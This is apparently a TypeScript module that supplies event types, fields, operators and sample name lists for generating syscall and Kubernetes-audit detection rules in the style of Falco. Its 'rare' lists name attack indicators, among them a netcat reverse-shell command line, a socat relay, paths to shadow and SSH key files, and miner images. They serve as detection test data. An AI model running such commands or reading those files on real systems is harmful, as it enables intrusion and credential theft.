/** What generated rules look at: event types, fields with the operators that fit them, and names to compare with. */

/** Names of one sort. A capture or log is full of the first, has the second now and then, and never what is made up. */
export interface Vocabulary {
  readonly common: readonly string[];
  readonly rare: readonly string[];
  /** Pattern of made-up names: every `@` becomes a word of its own. */
  readonly madeUp: string;
}

/** A field that holds text, or a list of texts. */
export interface TextField {
  readonly name: string;
  readonly vocabulary: Vocabulary;
  readonly operators: readonly string[];
}

/** Events of one sort, and what rules on them look at. */
export interface EventFamily {
  /** Conditions that choose the events; empty: all. */
  readonly events: readonly string[];
  /** Fields that differ from event to event. */
  readonly fields: readonly TextField[];
  /** Checks that most of the events pass. */
  readonly wide: readonly string[];
}

/** What rules of an event source are made of. */
export interface RuleFields {
  /** Rule number n is on family n modulo their number, so that few rules look at the same events as many do. */
  readonly families: readonly EventFamily[];
  /** Fields that many events share: those of the process, or of the user of a request. */
  readonly context: readonly TextField[];
  /** Checks of such fields that most events pass. */
  readonly wideContext: readonly string[];
  readonly output: string;
}

const TEXT = ['=', 'in', 'startswith', 'endswith', 'contains', 'glob', 'regex'] as const;
const NAME = ['=', 'in', 'in', 'startswith', 'endswith', 'glob'] as const;
const PATH = ['=', 'in', 'startswith', 'endswith', 'contains', 'glob', 'pmatch', 'regex'] as const;
const LIST = ['intersects', 'intersects', 'in'] as const;

const PROGRAMS: Vocabulary = {
  common: ['server', 'tar', 'java', 'node', 'python3', 'nginx', 'systemd', 'containerd-shim', 'runc', 'bash', 'sh'],
  rare: ['nc', 'nmap', 'gdb', 'strace', 'tcpdump', 'socat', 'insmod'],
  madeUp: '@d',
};
const COMMAND_LINES: Vocabulary = {
  common: ['server --port 8080', 'tar c /var', 'nginx -g daemon off;', 'sh -c make', 'python3 app.py'],
  rare: [
    'nc -e /bin/sh 10.1.2.3 4444',
    'nmap -sS 10.0.0.0/8',
    'gdb -p 1',
    'strace -f -p 1',
    'socat - tcp:10.1.2.3:4444',
  ],
  madeUp: '@ --@=@',
};
const EXECUTABLES: Vocabulary = {
  common: ['/app/server', '/usr/bin/tar', '/usr/bin/node', '/usr/sbin/nginx', '/bin/sh'],
  rare: ['/tmp/nc', '/usr/bin/nmap', '/usr/bin/gdb', '/usr/bin/strace', '/dev/shm/socat'],
  madeUp: '/opt/@/bin/@',
};
const FILES: Vocabulary = {
  common: [
    '/var/lib/data',
    '/app/pages/index.html',
    '/usr/lib/libc.so.6',
    '/etc/hosts',
    '/proc/self/stat',
    '/dev/null',
  ],
  rare: ['/etc/shadow', '/etc/sudoers', '/root/.ssh/id_rsa', '/root/.bash_history', '/var/run/docker.sock'],
  madeUp: '/srv/@/@/@.conf',
};
const CONNECTIONS: Vocabulary = {
  common: ['10.20.0.7:40000->10.20.0.13:8080'],
  rare: ['10.20.0.13:52000->203.0.113.66:4444', '10.20.0.13:52001->198.51.100.9:6667'],
  madeUp: '@->@',
};
const IMAGES: Vocabulary = {
  common: ['registry.example.com/shop', 'docker.io/library/nginx', 'registry.example.com/search'],
  rare: ['docker.io/someone/toolbox', 'docker.io/someone/miner'],
  madeUp: 'registry.@.example/@/@',
};
const NAMESPACES: Vocabulary = {
  common: ['default', 'shop', 'billing', 'search', 'monitoring', 'kube-system'],
  rare: ['sandbox', 'attic'],
  madeUp: '@-@',
};
const USERS: Vocabulary = {
  common: ['root', 'www-data', 'postgres', 'app'],
  rare: ['backup', 'games'],
  madeUp: '@',
};
const OPEN_FLAGS: Vocabulary = { common: ['O_RDONLY', 'O_CLOEXEC'], rare: ['O_TMPFILE', 'O_SYNC'], madeUp: 'O_@' };

const FILE_FIELDS: readonly TextField[] = [
  { name: 'fd.name', vocabulary: FILES, operators: PATH },
  { name: 'fd.name', vocabulary: FILES, operators: PATH },
  { name: 'fd.directory', vocabulary: FILES, operators: ['=', 'in', 'startswith', 'pmatch'] },
  { name: 'fd.filename', vocabulary: PROGRAMS, operators: NAME },
];
const PATH_FIELDS: readonly TextField[] = [
  { name: 'fs.path.name', vocabulary: FILES, operators: PATH },
  { name: 'fs.path.nameraw', vocabulary: FILES, operators: ['=', 'contains', 'endswith'] },
];
const EXEC_FIELDS: readonly TextField[] = [
  { name: 'proc.cmdline', vocabulary: COMMAND_LINES, operators: TEXT },
  { name: 'proc.exepath', vocabulary: EXECUTABLES, operators: PATH },
  { name: 'proc.args', vocabulary: COMMAND_LINES, operators: ['contains', 'startswith', 'endswith', 'icontains'] },
];
const CONNECTION_FIELDS: readonly TextField[] = [
  { name: 'fd.name', vocabulary: CONNECTIONS, operators: ['contains', 'startswith', 'endswith', 'glob'] },
];

/** Rules on what programs and people do, as rule sets for detection look at it. */
export const SYSCALL_FIELDS: RuleFields = {
  families: [
    {
      events: ['evt.type in (open, openat, openat2)', 'evt.is_open_write = true'],
      fields: FILE_FIELDS,
      wide: ['fd.typechar = f', 'fd.num >= 0'],
    },
    {
      events: ['evt.type in (open, openat, openat2)'],
      fields: [...FILE_FIELDS, { name: 'evt.arg.flags', vocabulary: OPEN_FLAGS, operators: ['contains'] }],
      wide: ['fd.num >= 0', 'evt.res = SUCCESS', 'fd.name exists'],
    },
    { events: ['evt.type in (execve, execveat)'], fields: EXEC_FIELDS, wide: ['evt.res = SUCCESS'] },
    {
      events: ['evt.type = connect'],
      fields: CONNECTION_FIELDS,
      wide: ['fd.sport > 0', 'fd.sport != 53', 'fd.l4proto = tcp'],
    },
    {
      events: ['evt.type in (accept, accept4)'],
      fields: CONNECTION_FIELDS,
      wide: ['fd.sport <= 65535', 'fd.num > 2', 'fd.type in (ipv4, ipv6)'],
    },
    {
      events: ['evt.type in (unlink, unlinkat, rename, renameat, renameat2, mkdir, mkdirat, rmdir)'],
      fields: PATH_FIELDS,
      wide: ['evt.res = SUCCESS', 'fs.path.name exists'],
    },
    {
      events: ['evt.type in (chmod, fchmod, fchmodat)'],
      fields: PATH_FIELDS,
      wide: ['evt.rawres >= 0'],
    },
    { events: ['evt.type in (setuid, setgid)'], fields: [], wide: ['user.uid < 100000'] },
    {
      events: ['evt.type in (clone, fork, vfork, clone3)'],
      fields: EXEC_FIELDS,
      wide: ['evt.rawres >= 0'],
    },
    {
      events: ['evt.type in (open, openat, openat2)', 'evt.is_open_read = true'],
      fields: FILE_FIELDS,
      wide: ['fd.num >= 0', 'fd.directory exists'],
    },
  ],
  context: [
    { name: 'proc.name', vocabulary: PROGRAMS, operators: NAME },
    { name: 'proc.pname', vocabulary: PROGRAMS, operators: NAME },
    { name: 'proc.aname[2]', vocabulary: PROGRAMS, operators: NAME },
    { name: 'proc.aname', vocabulary: PROGRAMS, operators: ['in', '='] },
    { name: 'proc.exepath', vocabulary: EXECUTABLES, operators: PATH },
    { name: 'proc.cmdline', vocabulary: COMMAND_LINES, operators: TEXT },
    { name: 'container.image.repository', vocabulary: IMAGES, operators: NAME },
    { name: 'container.image', vocabulary: IMAGES, operators: TEXT },
    { name: 'container.name', vocabulary: NAMESPACES, operators: TEXT },
    { name: 'user.name', vocabulary: USERS, operators: NAME },
    { name: 'proc.cwd', vocabulary: FILES, operators: ['startswith', 'contains', '='] },
  ],
  wideContext: [
    'container.id != host',
    'user.uid >= 0',
    'proc.pname exists',
    'user.uid != 4294967294',
    'group.gid < 4000000000',
    'proc.cmdnargs < 1000',
    'proc.name exists',
    'container.privileged != true',
  ],
  output: 'user=%user.name program=%proc.name command=%proc.cmdline file=%fd.name image=%container.image.repository',
};

/** Kinds of calls beyond those of {@link SYSCALL_FIELDS}, which make up most of a capture. */
export const HIGH_VOLUME_FAMILIES: readonly EventFamily[] = [
  {
    events: ['evt.type in (read, write, pread, pwrite, readv, writev, sendto, recvfrom, sendmsg, recvmsg)'],
    fields: [{ name: 'fd.name', vocabulary: FILES, operators: PATH }],
    wide: ['fd.num >= 0', 'evt.rawres >= 0'],
  },
  {
    events: [],
    fields: [{ name: 'fd.name', vocabulary: FILES, operators: PATH }],
    wide: ['fd.num >= 0'],
  },
];

const PEOPLE: Vocabulary = {
  common: [
    'system:node:node-1',
    'system:kube-scheduler',
    'system:serviceaccount:kube-system:replicaset-controller',
    'ann',
  ],
  rare: ['eve', 'mallory'],
  madeUp: 'system:serviceaccount:@:@',
};
const GROUPS: Vocabulary = {
  common: ['system:nodes', 'system:authenticated', 'developers'],
  rare: ['contractors'],
  madeUp: '@-team',
};
const OBJECTS: Vocabulary = { common: ['web', 'api', 'settings'], rare: ['toolbox', 'miner'], madeUp: '@-@' };
const AGENTS: Vocabulary = {
  common: ['kubelet/v1.20.2 (linux/amd64) kubernetes/faecb19', 'kubectl/v1.20.2 (linux/amd64) kubernetes/faecb19'],
  rare: ['curl/7.88.1', 'python-requests/2.31.0'],
  madeUp: '@/v1.@',
};
const POD_IMAGES: Vocabulary = {
  common: ['registry.example:5000/web/main:1.2', 'registry.example:5000/api/main:1.3'],
  rare: ['docker.io/someone/toolbox:latest', 'docker.io/someone/miner:latest'],
  madeUp: 'registry.@.example/@:1.0',
};
const VOLUMES: Vocabulary = { common: ['secret', 'emptyDir'], rare: ['nfs', 'iscsi'], madeUp: '@' };
const CAPABILITIES: Vocabulary = { common: ['CHOWN'], rare: ['SYS_ADMIN', 'SYS_PTRACE', 'NET_ADMIN'], madeUp: '@' };
const HOST_PATHS: Vocabulary = {
  common: ['/var/log'],
  rare: ['/var/run/docker.sock', '/etc', '/proc'],
  madeUp: '/srv/@/@',
};

const POD_FIELDS: readonly TextField[] = [
  { name: 'ka.req.pod.containers.image', vocabulary: POD_IMAGES, operators: LIST },
  { name: 'ka.req.pod.containers.image.repository', vocabulary: POD_IMAGES, operators: LIST },
  { name: 'ka.req.pod.containers.image[0]', vocabulary: POD_IMAGES, operators: LIST },
  { name: 'ka.req.pod.volumes.volume_type', vocabulary: VOLUMES, operators: LIST },
  { name: 'ka.req.pod.volumes.hostpath', vocabulary: HOST_PATHS, operators: LIST },
  { name: 'ka.req.pod.containers.add_capabilities', vocabulary: CAPABILITIES, operators: LIST },
  { name: 'ka.target.name', vocabulary: OBJECTS, operators: TEXT },
];
const OBJECT_FIELDS: readonly TextField[] = [
  { name: 'ka.target.name', vocabulary: OBJECTS, operators: TEXT },
  { name: 'ka.uri', vocabulary: HOST_PATHS, operators: ['startswith', 'contains', 'endswith', 'glob', 'regex'] },
];
const CREATES_POD = ['ka.verb = create', 'ka.target.resource = pods', 'not ka.target.subresource exists'];
const POD_FAMILY: EventFamily = {
  events: CREATES_POD,
  fields: POD_FIELDS,
  wide: ['ka.req.pod.containers.image exists', 'ka.response.code = 201', 'not ka.req.pod.host_network = true'],
};

/** Rules on requests to an API server; six in ten on pods. */
export const AUDIT_FIELDS: RuleFields = {
  families: [
    POD_FAMILY,
    POD_FAMILY,
    {
      events: ['ka.verb in (create, update, patch)', 'ka.target.resource = deployments'],
      fields: OBJECT_FIELDS,
      wide: [],
    },
    POD_FAMILY,
    {
      events: ['ka.verb in (get, list)', 'ka.target.resource in (secrets, configmaps)'],
      fields: OBJECT_FIELDS,
      wide: [],
    },
    POD_FAMILY,
    {
      events: ['ka.target.resource = pods', 'ka.target.subresource in (exec, attach)'],
      fields: OBJECT_FIELDS,
      wide: [],
    },
    {
      events: ['ka.verb in (create, update)', 'ka.target.resource in (clusterroles, rolebindings)'],
      fields: [{ name: 'ka.req.role.rules.verbs', vocabulary: OBJECTS, operators: ['intersects'] }, ...OBJECT_FIELDS],
      wide: [],
    },
    POD_FAMILY,
    POD_FAMILY,
  ],
  context: [
    { name: 'ka.user.name', vocabulary: PEOPLE, operators: TEXT },
    { name: 'ka.user.groups', vocabulary: GROUPS, operators: LIST },
    { name: 'ka.target.namespace', vocabulary: NAMESPACES, operators: NAME },
    { name: 'ka.useragent', vocabulary: AGENTS, operators: TEXT },
  ],
  wideContext: [
    'ka.user.name exists',
    'ka.user.name != system:anonymous',
    'ka.target.namespace != kube-public',
    'ka.auth.decision = allow',
    'ka.stage = ResponseComplete',
  ],
  output: 'user=%ka.user.name verb=%ka.verb name=%ka.target.name namespace=%ka.target.namespace code=%ka.response.code',
};
